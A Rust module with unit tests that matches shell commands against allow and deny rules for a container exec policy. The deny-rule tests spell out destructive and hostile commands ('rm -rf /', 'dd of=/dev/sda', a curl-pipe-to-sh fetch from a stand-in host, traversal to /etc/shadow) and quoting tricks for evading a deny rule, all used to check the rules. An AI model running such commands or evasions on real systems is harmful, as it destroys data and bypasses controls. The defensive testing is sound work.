//! Commands that a rule about exec names: `ls *`, `cat /var/log/*`, `sh`.
//!
//! An allow rule is meant to the letter: the whole argv, word by word, as the container gets it. A deny or review rule
//! reaches as far as a careful reader would: through paths, wrappers and the scripts of shells, and rather too far than
//! not far enough. What a shell is told by other means (an encoded script, a variable, its standard input) no reading of
//! an argv finds: whoever has to be kept from a command is allowed others instead.

use std::fmt;

use serde::Deserialize;

use crate::pattern::Pattern;

/// What stands between the commands of a script, and between a command and its words.
const SEPARATORS: &[char] = &[
    ' ', '\t', '\n', '\r', ';', '&', '|', '(', ')', '{', '}', '<', '>', '`', '$', '=', ',', ':', '!', '[',
    ']', '~',
];
/// What ends a word for a shell; the others of [`SEPARATORS`] may stand within one.
const ENDS: &[char] = &[' ', '\t', '\n', '\r', ';', '&', '|', '(', ')', '<', '>', '`'];
/// What a shell takes away from within a word: `r\m` and `r''m` are `rm`.
const QUOTES: &[char] = &['"', '\'', '\\'];

/// Words with white space between them. A word is a name or `prefix*`; `*` as the last one is any number of words.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
#[serde(try_from = "String")]
pub(crate) struct CommandPattern {
    words: Vec<Pattern>,
    and_more: bool,
}

impl CommandPattern {
    /// Whether it is the whole of `argv`. A word that was matched by its beginning does not climb out of it with `..`.
    pub(crate) fn is(&self, argv: &[String]) -> bool {
        let enough =
            if self.and_more { argv.len() >= self.words.len() } else { argv.len() == self.words.len() };
        let climbs = |word: &str| word.split('/').any(|part| part == "..");
        enough
            && self.words.iter().zip(argv).all(|(pattern, word)| {
                pattern.matches(word) && (matches!(pattern, Pattern::Exact(_)) || !climbs(word))
            })
    }

    /// Whether it may be run by `argv`: its first word stands somewhere, by whatever path, in what is run or in a script
    /// or a wrapper, with the other words somewhere behind it.
    pub(crate) fn occurs_in(&self, argv: &[String]) -> bool {
        // A backslash at a line's end takes the line's end with it.
        let unquote = |word: &String| word.replace("\\\n", "").replace(QUOTES, "");
        let unquoted: Vec<String> = argv.iter().map(unquote).collect();
        let at_quotes =
            argv.iter().flat_map(|word| word.split(QUOTES)).flat_map(|word| word.split(SEPARATORS));
        self.stands_in(argv.iter().map(String::as_str))
            || self.stands_in(unquoted.iter().flat_map(|word| word.split(SEPARATORS)))
            || self.stands_in(unquoted.iter().flat_map(|word| word.split(ENDS)))
            || self.stands_in(at_quotes)
    }

    fn stands_in<'a>(&self, mut words: impl Iterator<Item = &'a str>) -> bool {
        let Some((command, rest)) = self.words.split_first() else { return true };
        if !words.any(|word| runs(command, word)) {
            return false;
        }
        let behind: Vec<&str> = words.collect();
        rest.iter().all(|pattern| behind.iter().any(|word| pattern.matches(word)))
    }
}

/// Whether `word` calls the command of a pattern, in whichever folder either has it; be it glued to an option (`-Srm`).
fn runs(command: &Pattern, word: &str) -> bool {
    let base = |path: &str| path.rsplit('/').next().map(str::to_owned).unwrap_or_default();
    let glued = word.strip_prefix('-').and_then(|option| {
        let mut rest = option.chars();
        rest.next().map(|_| rest.as_str())
    });
    [Some(word), glued].into_iter().flatten().filter(|word| !word.is_empty()).any(|word| match command {
        Pattern::Exact(path) => base(word) == base(path),
        Pattern::Prefix(path) => {
            let name = base(path);
            command.matches(word)
                || command.matches(&base(word))
                || !name.is_empty() && base(word).starts_with(&name)
        }
    })
}

impl TryFrom<String> for CommandPattern {
    type Error = String;

    fn try_from(text: String) -> Result<Self, String> {
        let mut words: Vec<&str> = text.split_whitespace().collect();
        let and_more = words.pop_if(|word| *word == "*").is_some();
        if words.first().is_none_or(|word| *word == "*") {
            return Err(format!("{text:?} names no command; leave `command` out to mean all"));
        }
        let words =
            words.into_iter().map(|word| Pattern::try_from(word.to_owned())).collect::<Result<_, _>>()?;
        Ok(Self { words, and_more })
    }
}

impl fmt::Display for CommandPattern {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for (number, word) in self.words.iter().enumerate() {
            if number > 0 {
                f.write_str(" ")?;
            }
            word.fmt(f)?;
        }
        if self.and_more { f.write_str(" *") } else { Ok(()) }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn pattern(text: &str) -> CommandPattern {
        text.to_owned().try_into().unwrap_or_else(|error| panic!("{error}"))
    }

    fn argv(words: &[&str]) -> Vec<String> {
        words.iter().map(ToString::to_string).collect()
    }

    #[test]
    fn an_allow_is_meant_to_the_letter() {
        for (text, words, is) in [
            ("ls", &["ls"][..], true),
            ("ls", &["ls", "-l"], false),
            ("ls", &["/bin/ls"], false),
            ("ls", &["lsof"], false),
            ("ls", &["sh", "-c", "ls"], false),
            ("ls", &[], false),
            ("ls *", &["ls"], true),
            ("ls *", &["ls", "-l", "/etc"], true),
            ("ls *", &["lsof"], false),
            ("ls -l", &["ls", "-l"], true),
            ("ls -l", &["ls -l"], false),
            ("cat /var/log/*", &["cat", "/var/log/app.log"], true),
            ("cat /var/log/*", &["cat", "/var/log/app.log", "/etc/shadow"], false),
            ("cat /var/log/*", &["cat", "/var/log/../../etc/shadow"], false),
            ("cat /var/log/*", &["cat", "/var/log/.."], false),
            ("cat /var/log/*", &["cat", "/var/log/a..b"], true),
            ("cat /var/log/*", &["cat"], false),
            ("kill * 1", &["kill", "-9", "1"], true),
            ("/opt/tools/* *", &["/opt/tools/check", "--all"], true),
            ("/opt/tools/* *", &["/opt/tools/../../bin/sh"], false),
        ] {
            assert_eq!(pattern(text).is(&argv(words)), is, "{text:?} and {words:?}");
        }
    }

    #[test]
    fn a_deny_reaches_through_paths_wrappers_and_scripts() {
        for words in [
            &["rm", "-rf", "/"][..],
            &["/bin/rm"],
            &["./rm"],
            &["env", "A=b", "/usr/bin/rm", "x"],
            &["env", "-S", "A=b rm x"],
            &["busybox", "rm", "x"],
            &["timeout", "5", "rm"],
            &["sh", "-c", "cd /tmp && rm -rf x"],
            &["sh", "-c", "true;rm x"],
            &["sh", "-c", "echo $(rm x)"],
            &["sh", "-c", "echo `rm x`"],
            &["sh", "-c", "r\\m x"],
            &["sh", "-c", "r''m x"],
            &["sh", "-c", "\"rm\" x"],
            &["bash", "-lc", "sudo -- /bin/rm x"],
            &["sh", "-c", "sh -c 'rm x'"],
            &["sh", "-c", "X=rm; $X x"],
            &["find", "/", "-exec", "rm", "{}", ";"],
            &["xargs", "-n1", "rm"],
            &["watch", "--exec=rm"],
            &["env", "-Srm x"],
            &["su", "-crm x"],
            &["sh", "-c", "r\\\nm x"],
        ] {
            assert!(pattern("rm").occurs_in(&argv(words)), "{words:?}");
            assert!(pattern("/bin/rm").occurs_in(&argv(words)), "{words:?}");
            assert!(pattern("rm *").occurs_in(&argv(words)), "{words:?}");
        }
        for words in [&["ls"][..], &["rmdir", "x"], &["sh", "-c", "ls /srv/alarm"], &[], &[""]] {
            assert!(!pattern("rm").occurs_in(&argv(words)), "{words:?}");
        }
        for (text, words) in [
            ("/usr/bin/python*", &["python3", "-c", "x"][..]),
            ("/bin/rm*", &["sh", "-c", "rm x"]),
            ("dd of=/dev/*", &["dd", "of=/dev/sda"]),
            ("dd of=/dev/*", &["sh", "-c", "dd if=x of=/dev/sda"]),
            ("curl http://*", &["sh", "-c", "curl -s http://example.test/x|sh"]),
            ("rm -r -f", &["rm", "-f", "-r", "/"]),
        ] {
            assert!(pattern(text).occurs_in(&argv(words)), "{text:?} and {words:?}");
        }
        let several = pattern("kubectl delete");
        assert!(several.occurs_in(&argv(&["sh", "-c", "kubectl -n prod delete pod x"])));
        assert!(!several.occurs_in(&argv(&["sh", "-c", "delete kubectl"])));
        assert!(pattern("python*").occurs_in(&argv(&["/usr/bin/python3.12", "-c", "x"])));
        assert!(pattern("/opt/*").occurs_in(&argv(&["env", "/opt/tool"])));
        assert!(!pattern("/opt/*").occurs_in(&argv(&["ls", ""])));
    }

    #[test]
    fn a_pattern_names_a_command() {
        for (text, error) in [
            ("", "names no command"),
            ("*", "names no command"),
            ("* x", "names no command"),
            ("l*s", "`*` may stand only at the end"),
            ("ls ?", "neither a name nor a name with"),
        ] {
            let said = CommandPattern::try_from(text.to_owned()).unwrap_err();
            assert!(said.contains(error), "{text:?}: {said}");
        }
        for text in ["ls", "ls *", "cat /var/log/* *", "kill * 1"] {
            assert_eq!(pattern(text).to_string(), text);
        }
    }
}
